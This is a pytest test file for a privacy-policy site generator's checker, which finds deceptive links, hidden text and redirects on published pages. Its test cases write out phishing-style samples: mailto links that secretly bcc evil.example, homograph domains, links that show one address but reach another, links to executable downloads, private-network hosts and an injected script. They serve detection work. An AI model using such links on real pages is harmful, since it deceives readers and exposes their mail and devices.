    assert "not where the theme writes it" in safety.content_hidden(page, _TEXT)
    # found by any id: one a selector would need escaped (quotes, a backslash, letters beyond ASCII) too
    for ident in ('données', 'a"b', 'a\\b]', 'p-1'):
        text = _TEXT.replace('id="politique"', f'id="{html.escape(ident)}"')
        moved = _PAGE.format(article=text).replace('<body dir="ltr">', f'<body dir="ltr"><header>{text}</header>')
        assert "not where the theme writes it" in safety.content_hidden(moved, text), ident
        assert safety.content_hidden(_PAGE.format(article=text), text) is None, ident
    hidden_article = _PAGE.format(article=_TEXT).replace('<article class', '<article hidden class')
    assert "carries “hidden”" in safety.content_hidden(hidden_article, _TEXT)


def test_where_a_template_hides_the_text_is_said_in_the_site_s_language():
    """`make preview` logged "… : the text is in <header>, not where the theme writes it (<article>) (un modèle propre
    au projet …)" on a French site: English words inside its French line."""
    from policysite import preview

    moved = _PAGE.format(article=_TEXT).replace('<body dir="ltr">', f'<body dir="ltr"><header>{_TEXT}</header>')
    hidden = _PAGE.format(article=_TEXT).replace('<article class', '<article hidden class')
    said = [preview.hidden("fr/index.html", safety.content_hidden(page, _TEXT) or "", "fr") for page in (moved, hidden)]
    assert said == [
        "fr/index.html\u00a0: le texte est dans <header>, et non là où le thème l'écrit (<article>) (un modèle propre au "
        "projet\u00a0: la page doit montrer le texte que lisent les vérifications)",
        "fr/index.html\u00a0: l'élément <article> du texte porte «\u00a0hidden\u00a0», que le thème n'y écrit pas\u00a0: il peut cacher le "
        "texte (un modèle propre au projet\u00a0: la page doit montrer le texte que lisent les vérifications)"]


def test_a_page_of_text_may_not_redirect_its_reader_even_within_the_site():
    """Security hunt 11, f_chain_refresh_xslt: a refresh written through site_description sent every reader of
    fr/latest/ to a file of the site that ran a script."""
    page = _PAGE.format(article=_TEXT).replace("<title>t</title>", '<title>t</title><meta http-equiv="refresh" '
                                                                     'content="0;url=../assets/images/logo.svg">')
    found = [v.message for v in safety.check_page(page, file="fr/2024-01-01/index.html", theme_dirs=())]
    assert any("sends every reader elsewhere" in message for message in found), found


@pytest.mark.parametrize(("href", "text", "fragment"), [
    ("mailto:dpo@acme.example?bcc=collecte@evil.example&subject=RGPD", "dpo@acme.example", "writes to more"),
    ("mailto:dpo@acme.example%0Abcc:x@evil.example", "écrire", "writes to more"),
    ("https://www.acmе.example/", "le site", "mixing letters of several scripts (acmе)"),
    ("mail\tto:dpo@acme.example?bcc=collecte@evil.example", "écrire", "writes to more"),  # hunt 12: a tab
    ("file://evil.example/plainte.exe", "déposer une réclamation", "opens another program or place (file:)"),  # 16
    ("search-ms:query=x", "chercher", "opens another program or place (search-ms:)"),
    # security hunt 19b, findings 3 and 4: a message written for the reader, numbers dialled after a pause
    ("mailto:dpo@acme.example?subject=Demande&body=Je%20renonce%20%C3%A0%20mon%20droit", "dpo@acme.example",
     "writes the reader's message for them (body=)"),
    ("tel:+33123456789,,,9", "01 23 45 67 89", "dials more than a number"),
    ("tel:+33123456789;phone-context=evil.example", "appeler", "dials more than a number"),
    ("t%09el:+33899123486", "01 23 45 67 86", "hidden tab or line break"),  # hunt 20: `t&#9;el:` is `tel:` to a browser
    ("/\\www.acmе.example/", "le site", "mixing letters of several scripts (acmе)"),  # hunt 30: `/\` is `//`
    # safety hunt 35: the user part of an address reads as its host (a password would be published too)
    ("https://www.cnil.fr@evil.example/plainte", "la CNIL", "writes a user name before its host (…@evil.example)"),
    ("//www.cnil.fr:443@evil.example/", "la CNIL", "writes a user name before its host"),
    # a link copied from a newsletter or a social network: its click reports where the reader came from, its id
    # names who copied it
    ("https://www.cnil.fr/plaintes?mc_cid=9f&mc_eid=3f2a9c", "la CNIL", "carries tracking parameters (mc_cid, mc_eid)"),
    ("https://example.com/?UTM_Source=x#a", "le site", "carries tracking parameters (UTM_Source)"),
    ("/fr/?fbclid=IwAR2", "la version", "carries tracking parameters (fbclid)"),
    ("https://www.cnil.fr/fr/plaintes#xtor=RSS-8", "la CNIL", "carries tracking parameters (xtor)"),
    ("https://acme.example/?pk_campaign=lettre&mtm_kwd=rgpd", "le site", "tracking parameters (pk_campaign, mtm_kwd)"),
    # a machine of a private network: Word's `\\\\fileserver01\\…`, an intranet, an address not the internet's
    ("\\\\fileserver01\\legal\\DPA.docx", "notre DPA", "goes to a machine of a private network (fileserver01)"),
    ("https://intranet.acme.corp/rgpd", "la procédure", "a machine of a private network (intranet.acme.corp)"),
    ("http://2130706433/", "le routeur", "a machine of a private network (2130706433)"),
    ("http://[fd00::1]:8080/", "le NAS", "a machine of a private network (fd00::1)"),
    # safety hunt 46: a public name a wildcard DNS service answers with the private address it spells, or this machine
    ("http://10.0.0.5.nip.io:8080/admin", "le routeur", "a machine of a private network (10.0.0.5.nip.io)"),
    ("https://app-192-168-1-10.sslip.io/", "le NAS", "a machine of a private network (app-192-168-1-10.sslip.io)"),
    ("http://7f000001.nip.io/", "la page", "a machine of a private network (7f000001.nip.io)"),
    ("http://app.localtest.me:3000/", "la page", "a machine of a private network (app.localtest.me)"),
    ("mailto:dpo@acme.lvh.me", "écrire", "writes to a domain of a private network (acme.lvh.me)"),
    # safety hunt 46: a host wholly in Cyrillic or Greek letters that each look like a Latin one, under a Latin ending
    ("https://\u0430\u0440\u0440\u04cf\u0435.com/", "apple.com", "in Cyrillic letters that each look like a Latin one "
     "(\u0430\u0440\u0440\u04cf\u0435, read as “apple”)"),
    ("https://www.xn--80ak6aa92e.com/", "le site", "read as “apple”"),
    ("https://\u03bf\u03c1\u03b1.example/", "le site", "in Greek letters that each look like a Latin one"),
    ("mailto:dpo@\u0455\u0441\u043e\u0440\u0435.com", "écrire", "read as “scope”"),
    # safety3 hunt: Latin letters beyond ASCII that each look like an ASCII one (a dotless ı, an alpha ɑ, a script ɡ)
    ("https://www.cn\u0131l.fr/plaintes", "www.cn\u0131l.fr", "writes “cn\u0131l” with letters beyond ASCII that each look "
     "like an ASCII one (read as “cnil”)"),
    ("https://www.xn--cnl-kua.fr/", "la CNIL", "read as “cnil”"),
    ("https://www.p\u0251ypal.com/", "www.p\u0251ypal.com", "read as “paypal”"),
    ("mailto:dpo@\u0261oogle.com", "écrire", "writes “\u0261oogle” with letters beyond ASCII"),
    # access of its own: a signed address to a private file, a personal link's token, a session
    ("https://b.s3.amazonaws.com/dpa.pdf?X-Amz-Credential=AKIA&X-Amz-Signature=ab", "l'annexe",
     "carries a key, password or signed access (X-Amz-Credential, X-Amz-Signature)"),
    ("https://acme.example/compte?token=8f14", "vos préférences", "signed access (token)"),
    ("https://acme.example/rgpd;jsessionid=0AF3?x=1", "la page", "signed access (jsessionid)"),
    # through a shortener or a redirector: where it goes is not in the text, and each click is recorded
    ("https://bit.ly/3xYzAbC", "notre guide", "goes through bit.ly, which only sends its reader on"),
    ("https://eur02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.cnil.fr%2F&data=05%7C01%7Cj%40acme.example",
     "la CNIL", "link the address it wraps, https://www.cnil.fr/"),
    ("https://www.google.com/url?q=https://www.cnil.fr/&sa=D", "la CNIL", "goes through www.google.com"),
    ("https://protect-eu.mimecast.com/s/AbCdEfGh?domain=cnil.fr", "la CNIL", "goes through protect-eu.mimecast.com"),
    ("https://www-cnil-fr.cdn.ampproject.org/c/s/www.cnil.fr/fr/plaintes", "la CNIL", "goes through www-cnil-fr.cdn"),
    ("https://linkprotect.cudasvc.com/url?a=https%3a%2f%2fwww.cnil.fr%2f&c=E,1", "la CNIL",
     "link the address it wraps, https://www.cnil.fr/"),
    # the host as a browser reads it: percent-escapes decoded, fullwidth letters and ideographic full stops mapped
    ("https://bit%2ely/3xYz", "notre guide", "goes through bit.ly"),
    ("https://\uff42\uff49\uff54\u3002\uff4c\uff59/3xYz", "notre guide", "goes through bit.ly"),
    ("http://127%2e0.0.1/", "la page", "a machine of a private network"),
    ("https://bit\u00ad.ly/3xYz", "notre guide", "goes through bit.ly"),  # a soft hyphen: nothing to IDNA
    ("https:///bit.ly/3xYz", "notre guide", "goes through bit.ly"),  # slashes after the scheme, however many
    ("////intranet/rh", "la page", "a machine of a private network (intranet)"),
    ("https://www.acm%D0%B5.example/", "le site", "mixing letters of several scripts (acmе)"),
    # a program a click would download and run
    ("https://acme.example/outils/formulaire-rgpd.exe", "le formulaire", "downloads a program or a script (a .exe file)"),
    ("https://acme.example/app/Acme.APK?v=2", "l'application", "downloads a program or a script (a .apk file)"),
    # a header written with an escaped `?`, which a mail client decoding the address first reads as one
    ("mailto:dpo@acme.example%3Fbcc%3Dcollecte@evil.example", "écrire", "writes to more than its address"),
    ("mailto:rgpd@acme.local", "écrire", "writes to a domain of a private network (acme.local)"),
    ("mailto:dpo@acme.example@evil.example", "notre délégué", "writes to an address with more than one @"),
    ("mailto:dpo@acme.example%40evil.example", "notre délégué", "writes to an address with more than one @"),
    # an e-mail address whose domain passes for the company's, however written
    ("mailto:dpo@acm\u0435.example", "notre délégué", "domain “acmе.example” has a part mixing letters"),
    ("mailto:dpo@xn--acm-tdd.example", "notre délégué", "mixing letters of several scripts (acmе)"),
    ("mailto:dpo@acm%D0%B5.example?subject=RGPD", "notre délégué", "mixing letters of several scripts (acmе)"),
])
def test_a_link_that_writes_to_others_or_passes_for_another_host_is_found(href, text, fragment):
    """Security hunt 11, f_deceptive_links: a reader exercising their rights wrote to a third party too."""
    assert any(fragment in message for message in safety.deceptive_link(href, text)), list(
        safety.deceptive_link(href, text))


@pytest.mark.parametrize(("href", "text", "fragment"), [
    ("mailto:other@evil.example", "dpo@acme.example", "shows the address dpo@acme.example but writes to"),
    ("https://www.cnil.fr.evil.example/", "https://www.cnil.fr", "shows the address https://www.cnil.fr"),
    ("https://evil.example/", "contact@acme.example", "shows the e-mail address"),
    ("tel:+33899123456", "01 23 45 67 89", "shows the number 01 23 45 67 89 but dials +33899123456"),  # hunt 19b
    # security hunt 20, finding 2: words around the number, a premium-rate "country", a capital O for 0, a tab
    ("tel:+33899123456", "notre délégué au 01 23 45 67 89", "shows the number 01 23 45 67 89 but dials"),
    ("tel:+979123456788", "01 23 45 67 88", "shows the number 01 23 45 67 88 but dials +979123456788"),
    ("tel:+33899123487", "O1 23 45 67 87", "shows the number O1 23 45 67 87 but dials"),
    ("t\tel:+33899123486", "01 23 45 67 86", "shows the number 01 23 45 67 86 but dials"),
    # security hunt 21: a browser reads `\` as `/`; an address among other words; a domain alone; a number shown
    # with its country code dialled after another; non-breaking hyphens between its digits
    ("https://evil.example\\@www.cnil.fr/plaintes", "https://www.cnil.fr/plaintes", "goes to https://evil.example/@"),
    ("mailto:dpo@evil.example", "écrivez à dpo@acme.example", "shows the address dpo@acme.example but writes to"),
    ("https://evil.example/plainte", "le site www.cnil.fr", "shows the address www.cnil.fr but goes to"),
    ("https://evil.example/plainte", "cnil.fr", "shows the address cnil.fr but goes to"),
    ("tel:+4433123456789", "+33 1 23 45 67 89", "shows the number +33 1 23 45 67 89 but dials"),
    ("tel:+33899123456", "01\u201123\u201145\u201167\u201189", "but dials +33899123456"),
    # hunt 22's cases left until session 16: a domain alone on a line of the link or after a dot, a host spelled with
    # letters of another script, an e-mail spelled out against harvesters, a web address on an e-mail link, a number
    # written with Japanese's long-vowel mark as its dashes
    ("https://evil.example/collect", "acme.com<br>Datenschutz", "shows the address acme.com but goes to"),
    ("https://evil.example/collect", "Mehr bei<br/>www.acme.de", "shows the address www.acme.de but goes to"),
    ("https://evil.example/collect", ".acme.com", "shows the address acme.com but goes to"),
    ("https://evil.example/collect", "(acme.fr)", "shows the address acme.fr but goes to"),
    ("https://acme.xn--m-ctb1b/", "acme.с\u043em", "whose letters mix scripts"),
    ("https://evil.example/collect", "voir p\u0430ypal.com", "whose letters mix scripts"),
    ("mailto:harvest@evil.example", "datenschutz(at)acme.de", "shows the address datenschutz@acme.de but writes to"),
    ("mailto:harvest@evil.example", "privacy [at] acme [dot] com", "shows the address privacy@acme.com but writes"),
    ("mailto:harvest@evil.example", "www.acme.com/contact", "shows the address www.acme.com but writes to"),
    ("tel:+19005550100", "03ー1234ー5678", "shows the number 03ー1234ー5678 but dials"),
    # security hunt 30: a browser reads `\` as `/` in an address of the site's own too: `/\evil.example` and
    # `\\evil.example` go to the host evil.example
    ("/\\evil.example/plainte", "www.cnil.fr", "shows the address www.cnil.fr but goes to //evil.example/plainte"),
    ("\\\\evil.example/plainte", "www.cnil.fr", "shows the address www.cnil.fr but goes to //evil.example"),
    ("\\/evil.example/", "contact@acme.example", "shows the e-mail address contact@acme.example"),
])
def test_a_link_showing_another_address_than_its_target_is_found(href, text, fragment):
    assert fragment in safety.shown_address(href, text)


@pytest.mark.parametrize(("href", "text"), [
    ("tel:+33123456789", "01 23 45 67 89"), ("tel:+33123456789", "+33 (0)1 23 45 67 89"),
    ("tel:0123456789", "+33 1 23 45 67 89"), ("tel:+442071234567", "020 7123 4567"),
    ("tel:+14155550123", "(415) 555-0123"), ("tel:+33123456789", "appelez notre délégué"),
    ("tel:+33123456789", "appelez le 01 23 45 67 89"),
    ("https://policies.google.com/privacy", "google.com"), ("https://example.com/cookies.html", "cookies.html"),
    ("https://ec.europa.eu/info", "europa.eu"), ("https://www.legifrance.gouv.fr/x", "legifrance.gouv.fr"),
    ("https://nodejs.org/", "Node.js"), ("https://www.cnil.fr/fr/plaintes", "le site www.cnil.fr"),
    # hunt 22: product names and file names, a CJK sentence around an address, fullwidth digits, an IDN domain, the
    # site's own address on a link to one of its pages, a line break inside the link
    ("https://learn.microsoft.com/aspnet/", "ASP.NET session cookie"), ("https://github.com/socketio", "Socket.IO"),
    ("https://www.acme.de/impressum", "Acme GmbH & Co.KG"), ("https://www.acme.co.jp/privacy",
                                                         "詳細はwww.acme.co.jp/privacyをご覧ください"),
    ("mailto:privacy@acme.cn", "请发送邮件至privacy@acme.cn"), ("tel:0312345678", "０３-１２３４-５６７８"),
    ("mailto:info@xn--bcher-kva.de", "info@bücher.de"), ("../cookies/", "www.dial-once.com/politique/en/cookies/"),
    ("mailto:dpo@acme.com", "dpo@acme.com<br>Data Protection Officer"),
    ("mailto:dpo@acme.example?subject=Exercice%20de%20mes%20droits", "dpo@acme.example"),
    # the forms of session 16's cases a real policy writes: a domain on its own line going there, an address
    # spelled out that is the one written to, a web address on an e-mail link of that domain, initials and article
    # numbers with dots in Cyrillic, a Japanese company name joined to its Latin domain, a Japanese number
    ("https://www.acme.com/datenschutz", "acme.com<br>Datenschutz"), ("https://www.cnil.fr/", "(cnil.fr)"),
    ("mailto:datenschutz@acme.de", "datenschutz(at)acme.de"), ("mailto:privacy@acme.com", "privacy [at] acme [dot] com"),
    ("mailto:privacy@acme.com", "via www.acme.com"), ("mailto:privacy@mail.acme.com", "acme.com"),
    ("https://example.ru/", "ст.5 ФЗ «О персональных данных», Ф.И.О."),
    ("https://www.example.jp/", "株式会社Example.jp"), ("tel:+81312345678", "03ー1234ー5678"),
    ("https://www.example.co.th/privacy", "ดูที่เว็บไซต์www.example.co.th"), ("https://www.example.co.th/", "บริษัทExample.co.th"),
])
def test_a_number_shown_as_it_is_dialled_nationally_or_from_abroad_is_the_same_number(href, text):
    assert safety.shown_address(href, text) == "" and list(safety.deceptive_link(href, text)) == []


@pytest.mark.parametrize(("href", "text"), [
    ("mailto:dpo@acme.example?subject=RGPD", "dpo@acme.example"),
    ("https://www.cnil.fr/fr/plaintes", "www.cnil.fr/fr/plaintes"),
    ("https://www.cnil.fr/", "https://cnil.fr"),
    ("https://bücher.example/", "la librairie"),
    ("https://nodejs.org/", "Node.js"),
    # regression hunt 12: real internationalised names, one script a label, or Japanese's mix; punycode shown as text
    ("https://ελληνικά.gr/", "ελληνικά.gr"),
    ("https://お名前.com/", "お名前.com"),
    ("https://日本レジストリサービス.jp/", "JPRS"),
    ("https://www.xn--bcher-kva.de/", "www.bücher.de"),
    ("..\\cookies\\", "cookies"), ("mailto:dpo@acme.example", "dpo@acme.example"),  # hunt 30: `\` as `/`, a page
])
def test_an_honest_link_is_not_found(href, text):
    assert list(safety.deceptive_link(href, text)) == [] and safety.shown_address(href, text) == ""


def test_an_address_shown_with_a_trailing_dot_or_a_soft_hyphen_and_a_second_recipient_after_a_semicolon():
    """Security hunt 12: f_link_text_address, f_mailto_semicolon."""
    assert "shows the address" in safety.shown_address("https://evil.example/", "https://acme.example./contact")
    assert "shows the address" in safety.shown_address("https://evil.example/", "https://ac\u00adme.example/")
    assert safety.shown_address("https://acme.example/", "https://acme.example./") == ""
    assert list(safety.deceptive_link("mailto:dpo@acme.example;collecte@evil.example", "écrire"))


def test_an_id_written_in_code_is_not_taken_for_the_texts_element():
    """`<code>id="cookie"</code>` before the first heading named an element the page does not hold."""
    text = '<p>Le bandeau <code>id="cookie"</code>.</p>\n' + _TEXT
    assert safety.content_hidden(_PAGE.format(article=text), text) is None


def test_a_link_whose_words_show_another_address_is_refused_at_publication_however_they_were_written():
    """Security hunt 20, finding 1: `<a href="mailto:dpo@evil.example">**dpo@acme.example**</a>`: its source showed
    the check no address; the output check compares the words the browser shows with the target."""
    page = _PAGE.format(article='<p>Écrivez à <a href="mailto:dpo@evil.example"><strong>dpo@acme.example</strong></a>'
                                 '.</p>')
    found = [v.message for v in safety.check_page(page, file="fr/2024-01-01/index.html", theme_dirs=())]
    assert any("shows the address dpo@acme.example but writes to dpo@evil.example" in m for m in found), found


def test_the_output_check_reads_a_domain_on_a_line_of_a_published_link_of_its_own():
    """Hunt 22's case left until session 16, in the published page: `acme.com<br>Datenschutz` going elsewhere."""
    assert any("shows the address acme.com but goes to" in m
               for m in violations(page('<p><a href="https://evil.example/">acme.com<br>Datenschutz</a></p>')))
    assert not any("shows the address" in m
                   for m in violations(page('<p><a href="https://acme.com/d">acme.com<br>Datenschutz</a></p>')))


def test_a_link_whose_title_shows_another_address_than_where_it_goes_is_refused():
    """Safety hunt 35: the tooltip a reader reads, resting the pointer on a link to see where it goes, said
    www.cnil.fr for a link to evil.example; only the link's words were read. A title naming its own host is fine."""
    found = violations(page('<p><a href="https://evil.example/plainte" title="https://www.cnil.fr/plaintes">la '
                            'commission</a></p>'))
    assert any("the link's title (shown when the pointer rests on it) shows the address https://www.cnil.fr" in m
               for m in found), found
    # (the page shows the title's words: a title saying words it shows nowhere is refused too, safety77)
    assert violations(page('<p>Voir. Réclamations : www.cnil.fr.</p><p><a href="https://www.cnil.fr/plaintes" title="'
                           'Réclamations : www.cnil.fr">la commission</a></p>')) == []
    for words in ('<a href="https://evil.example/"><abbr title="www.cnil.fr">CNIL</abbr></a>',  # the words' title
                  '<span title="www.cnil.fr"><a href="https://evil.example/">la commission</a></span>'):  # around it
        assert any("the link's title" in m for m in violations(page(f"<p>{words}</p>"))), words


@pytest.mark.parametrize("href", ["https://www.google.com/search?q=rgpd", "https://www.linkedin.com/company/acme",
                                  "https://www.facebook.com/acme", "https://bitly.is/help", "https://acme.example/url"])
def test_a_link_to_a_page_of_a_redirecting_service_s_host_is_no_redirect(href):
    assert addresses.redirect_of(href) is None


@pytest.mark.parametrize("href", ["https://acme.example/politique.pdf", "https://acme.example/annexe.docx",
                                  "https://acme.example/app/", "https://acme.example/com/", "https://www.acme.com/",
                                  "https://acme.example/run?x=1", "/fr/2024-01-01/policy-fr-2024-01-01.pdf",
                                  "https://www.whois.com/whois/acme.com", "https://web.archive.org/web/2020/acme.app"])
def test_a_link_to_a_page_or_a_document_downloads_no_program(href):
    assert list(safety.deceptive_link(href, "le document")) == []


@pytest.mark.parametrize("href, kind", [
    ("https://acme.example/formulaires/demande-rgpd.docm", ".docm"),  # Word, Excel, PowerPoint with their macros
    ("https://acme.example/outils/registre.xlsm", ".xlsm"),
    ("https://acme.example/modeles/consentement.dotm", ".dotm"),
    ("https://acme.example/presentations/rgpd.pptm", ".pptm"),
    ("https://acme.example/outils/export.xll", ".xll"),  # an Excel add-in: a library Excel runs when it opens it
    ("https://acme.example/aide/confidentialite.chm", ".chm"),  # compiled help: its pages run scripts
    ("https://acme.example/outils/Acme.dll", ".dll"),
    ("https://acme.example/console/acme.msc", ".msc"),  # a management console: its snap-ins run on opening
    ("https://acme.example/support/acme.rdp", ".rdp"),  # a remote desktop to a machine of the sender's choosing
    ("https://acme.example/app/acme.jnlp", ".jnlp"),  # Java Web Start
    ("https://acme.example/app/Acme.appinstaller", ".appinstaller"),  # a Windows package installed from the web
    ("https://acme.example/app/Acme.application", ".application"),  # ClickOnce (listed before this hunt)
    ("https://acme.example/extension/acme.xpi", ".xpi"),  # a browser extension: Firefox offers to install it
    ("https://acme.example/extension/acme.crx", ".crx"),
    ("https://acme.example/vpn/acme.mobileconfig", ".mobileconfig"),  # an iPhone's profile: a VPN, a certificate
    ("https://acme.example/outils/donnees.iqy", ".iqy"),  # an Excel web query: fetches and runs what it names
])
def test_a_link_to_a_file_whose_opening_runs_code_or_installs_something_is_found(href, kind):
    """Safety hunt 44: a macro-enabled Office document, an Excel add-in, compiled help, a browser extension or a
    phone's configuration profile runs or installs something once opened, as a program does; the list held programs
    and scripts only."""
    assert any(f"downloads a program or a script (a {kind} file)" in message
               for message in safety.deceptive_link(href, "le formulaire")), list(safety.deceptive_link(href, "x"))


def test_a_link_without_its_tracking_parameters_keeps_the_rest():
    assert addresses.without_tracking("https://acme.example/p?a=1&utm_source=x#s2") == "https://acme.example/p?a=1#s2"
    assert addresses.without_tracking("https://www.cnil.fr/fr/plaintes#xtor=RSS-8") == "https://www.cnil.fr/fr/plaintes"
    assert addresses.tracking_parameters("https://acme.example/p#section-2") == []


def test_a_links_reasons_are_worked_out_once_a_process_and_said_alike_on_every_page():
    """An archive's pages hold the same links version after version: the output check works each link's reasons out
    once (some 0.1 ms a link), and says them on every page that has it."""
    article = ('<p><a href="mailto:dpo@acme.example?bcc=collecte@evil.example">dpo@acme.example</a> '
               '<a href="https://evil.example/">https://www.cnil.fr</a> <a href="https://www.cnil.fr/">CNIL</a></p>')
    safety._deceptive.cache_clear()
    safety.shown_address.cache_clear()
    first = violations(page(article))
    assert any("writes to more" in v for v in first) and any("shows the address https://www.cnil.fr" in v for v in first)
    asked = safety._deceptive.cache_info().misses, safety.shown_address.cache_info().misses
    assert violations(page(article)) == first
    assert (safety._deceptive.cache_info().misses, safety.shown_address.cache_info().misses) == asked
    assert safety._deceptive.cache_info().hits >= 3 and safety.shown_address.cache_info().hits >= 3


@pytest.mark.parametrize(("href", "words", "said"), [
    # safety hunt 45's leftover: words that are a path of this site (alone, among words, relative), the target another
    # host, written plainly or as a browser's URL parser reads it
    ("https://evil.example/", "/privacy/en/", "the link shows /privacy/en/, a path a reader takes for a page of this"),
    ("https://evil.example/", "la page /privacy/en/ du site", "the link shows /privacy/en/, a path"),
    ("//evil.example/", "privacy/en/2021-02-17/", "the link shows privacy/en/2021-02-17/, a path"),
    ("https://evil.example/", "../2021-02-17/", "the link shows ../2021-02-17/, a path"),
    ("https://evil.example/", "(./cookies)", "the link shows ./cookies, a path"),
    ("/\\evil.example/", "/privacy/en/", "but goes to //evil.example/"),
    ("https:/evil.example/", "/privacy/", "but goes to https://evil.example/"),
    ("https:evil.example", "/en/", "but goes to https://evil.example"),
    ("https://evil.example/", "\u2215privacy\u2215en\u2215", "the link shows /privacy/en/, a path"),  # division slashes
    ("https://evil.example/", "\u2044privacy\u2044en\u2044", "the link shows /privacy/en/, a path"),  # fraction slashes
])
def test_a_link_whose_words_are_a_path_of_the_site_and_whose_target_is_another_host_is_refused(href, words, said):
    assert said in safety.shown_address(href, words)
    assert any(said in m for m in violations(page(f'<p><a href="{href}">{words}</a></p>')))


@pytest.mark.parametrize(("href", "host", "followed"), [
    ("/\\evil.example/", "evil.example", "//evil.example/"),
    ("\\\\evil.example\\x", "evil.example", "//evil.example/x"),
    ("https:/evil.example/plainte", "evil.example", "https://evil.example/plainte"),
    ("https:evil.example", "evil.example", "https://evil.example"),
    ("HTTP:\\\\evil.example/", "evil.example", "HTTP://evil.example/"),
    ("https://evil.example\\@www.cnil.fr/plaintes", "evil.example", "https://evil.example/@www.cnil.fr/plaintes"),
])
def test_a_link_reaching_a_host_a_reader_does_not_see_written_as_one_is_refused(href, host, followed):
    """A browser reads `\\` as `/` and a web address's missing slashes as there (WHATWG URL): `/\\evil.example/` and
    `https:/evil.example/` go to evil.example, whatever words the link shows; written so, the host is not seen as one,
    by a reader or by the checks of the words (`https:/127.0.0.1/` passed the private-network check)."""
    said = f"goes to the host {host}, written so that a reader does not see it as an address"
    assert [said in m and m.endswith(followed) for m in safety.deceptive_link(href, "")] == [True]
    assert any(said in m for m in violations(page(f'<p><a href="{href}">le site</a></p>')))


def test_a_host_written_with_a_single_slash_is_read_for_what_it_reaches():
    assert any("a machine of a private network (127.0.0.1)" in m for m in safety.deceptive_link("http:/127.0.0.1:8080/",
                                                                                               ""))
    assert any("goes through bit.ly" in m for m in safety.deceptive_link("https:bit.ly/abc", ""))


@pytest.mark.parametrize(("href", "words"), [
    ("https://www.legifrance.gouv.fr/loda/id/JORFTEXT000000886460", "loi du 06/01/1978"),
    ("https://www.legifrance.gouv.fr/eli/loi/1978/1/6", "17/02/2021"),
    ("https://en.wikipedia.org/wiki/Internet_protocol_suite", "TCP/IP"), ("https://www.cnil.fr/", "et/ou"),
    ("https://www.cnil.fr/fr/plaintes", "www.cnil.fr/fr/plaintes"), ("/privacy/en/", "/privacy/en/"),
    ("../2021-02-17/", "../2021-02-17/"), ("..\\cookies\\", "cookies"), ("#s2", "/privacy/en/"),
    ("https://acme.example/aide", "support 24/7"), ("https://acme.example/?a=1", "A / B"),
    ("https://acme.example/recette", "\u00bd litre"), ("https://acme.example/recette", "1\u20442 litre"),
    ("https://8.8.8.8.nip.io/", "le site"), ("https://abc.nip.io/", "le site"), ("https://nip.io/", "nip.io"),
    # a Cyrillic or Greek name with letters no Latin one passes for, or under its own script's ending
    ("https://\u044f\u043d\u0434\u0435\u043a\u0441.com/", "le site"), ("https://\u0430\u0440\u0440\u04cf\u0435.\u0440\u0444/", "le site"),
    # a Latin name with letters of its own (ü, é, ş), or a Turkish word with an ı beside them
    ("https://www.b\u00fccher.de/", "le site"), ("https://caf\u00e9.example/", "le site"),
    ("https://\u0131\u015f\u0131k.com.tr/", "le site"),
    ("https://\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444/", "le site"), ("https://\u03b5\u03bb\u03bb\u03b7\u03bd\u03b9\u03ba\u03ac.gr/", "le site"),
])
def test_words_with_slashes_that_are_no_path_and_paths_of_the_site_pass(href, words):
    assert safety.shown_address(href, words) == "" and list(safety.deceptive_link(href, words)) == []


def test_a_page_that_passed_passes_again_unread_only_as_the_same_bytes_under_the_same_rules(monkeypatch):
    """`policy verify` checks each rebuilt version, then every page of the branch: a page that passed is not read
    again under the same theme scripts and the same or a looser check; anything else is read (and judged) again."""
    read, real = [], safety._check_tree
    monkeypatch.setattr(safety, "_check_tree", lambda html, **k: read.append(k["text"]) or real(html, **k))
    monkeypatch.setattr(safety, "_PASSED", {})
    clean = page('<p id="passed-once">Checked once, as built.</p>')
    assert safety.check_page(clean, file="fr/2024-01-01/index.html", theme_dirs=THEME) == []
    assert safety.check_page(clean, file="the/branch/blob.html", theme_dirs=THEME, text=False) == []
    assert safety.check_page(clean, file="again.html", theme_dirs=THEME) == [] and read == [True]
    # other bytes, other theme scripts (the page's inline script is no longer the theme's), a stricter check
    assert safety.check_page(clean.replace("once", "twice"), file="x.html", theme_dirs=THEME) == []
    assert any("not one of the theme's own" in v.message
               for v in safety.check_page(clean, file="x.html", theme_dirs=()))
    loose = page('<p id="loose">Judged without its text first.</p>', head="")
    assert safety.check_page(loose, file="x.html", theme_dirs=THEME, text=False) == []
    assert safety.check_page(loose, file="x.html", theme_dirs=THEME, text=True) == []
    assert read == [True, True, True, False, True]
    # a page that failed is read each time, and fails each time
    unsafe = page("<p>x</p><script>alert(1)</script>")
    assert safety.check_page(unsafe, file="a.html", theme_dirs=THEME) == safety.check_page(unsafe, file="a.html",
                                                                                           theme_dirs=THEME) != []
    assert read[5:] == [True, True]


def test_a_page_that_passed_with_some_theme_scripts_passes_unread_with_more(monkeypatch):
    """The root's redirect is checked as written, against the project's theme, then on the branch against every
    theme it holds: allowing more scripts cannot make a page that passed fail; allowing fewer is judged again."""
    read, real = [], safety._check_tree
    monkeypatch.setattr(safety, "_check_tree", lambda html, **k: read.append(k["theme_dirs"]) or real(html, **k))
    monkeypatch.setattr(safety, "_PASSED", {})
    scripts = {"scope": re.compile(re.escape(SCOPE[len("<script>"):-len("</script>")])), "other": re.compile("x=1")}
    monkeypatch.setattr(safety, "theme_scripts", lambda dirs: tuple(scripts[d] for d in dirs))
    clean = page('<p id="root">Sent on.</p>')
    assert safety.check_page(clean, file="index.html", theme_dirs=("scope",), text=False) == []
    assert safety.check_page(clean, file="index.html", theme_dirs=("other", "scope"), text=False) == []
    assert read == [("scope",)]
    assert safety.check_page(clean, file="index.html", theme_dirs=("other",), text=False) != []
    assert read == [("scope",), ("other",)]


def test_a_page_that_passed_in_an_earlier_command_passes_unread_where_passes_are_kept(monkeypatch, tmp_path):
    """A warm rebuild output-checked every page it built again, the same bytes that passed in the last rebuild: with
    `kept_in`, a page that passed in an earlier process (a fresh `_PASSED`) is not read again; a page that failed,
    other bytes, another check of its text, other theme scripts or another checker are."""
    read, real = [], safety._check_tree
    monkeypatch.setattr(safety, "_check_tree", lambda html, **k: read.append(k["text"]) or real(html, **k))
    kept = tmp_path / "passed"
    clean = page('<p id="kept">Passed in the last rebuild.</p>')
    unsafe = page("<p>x</p><script>alert(1)</script>")
    monkeypatch.setattr(safety, "_PASSED", {})
    assert safety.check_page(clean, file="fr/2024-01-01/index.html", theme_dirs=THEME, kept_in=kept) == []
    assert safety.check_page(unsafe, file="a.html", theme_dirs=THEME, kept_in=kept) != []
